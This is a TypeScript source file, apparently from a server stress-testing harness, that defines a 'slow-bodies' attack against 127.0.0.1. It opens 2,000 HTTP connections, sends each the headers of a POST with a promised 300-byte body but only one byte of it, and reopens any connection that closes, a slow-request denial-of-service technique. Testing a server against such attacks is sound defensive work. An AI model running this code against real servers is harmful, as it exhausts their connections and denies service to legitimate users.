import { type Source, sourceHeaders } from '../wire/endpoint.ts';
import type { HttpConnection } from '../wire/http-wire.ts';
import { ANONYMOUS, type Attack } from './attack.ts';

const CONNECTIONS = 2_000;
const CONCURRENCY = 50;

/** Row 2: places for requests under way, all held by one. */
export const slowBodies: Attack = {
  name: 'slow-bodies',
  does: '2,000 connections, each with headers and one byte of a body',
  shapes: ANONYMOUS,
  async run(context) {
    const wires: (HttpConnection | undefined)[] = await context.openInBatches(CONNECTIONS, CONCURRENCY, (i) =>
      context.openHttp(i),
    );
    await context.begin();
    wires.forEach((wire, i) => {
      wire?.write(encodeRequestStart(context.source(i)));
    });
    await context.repeat(CONCURRENCY, async (worker, turn) => {
      const index = worker + CONCURRENCY * (turn % (CONNECTIONS / CONCURRENCY));
      if (wires[index]?.isOpen) {
        await context.pause(50);
        return;
      }
      const wire = await context.openHttp(index);
      wires[index] = wire;
      wire.write(encodeRequestStart(context.source(index)));
    });
  },
};

function encodeRequestStart(source: Source): string {
  return (
    'POST /.well-known/auth HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\n' +
    `${sourceHeaders(source)}Content-Length: 300\r\n\r\n{`
  );
}
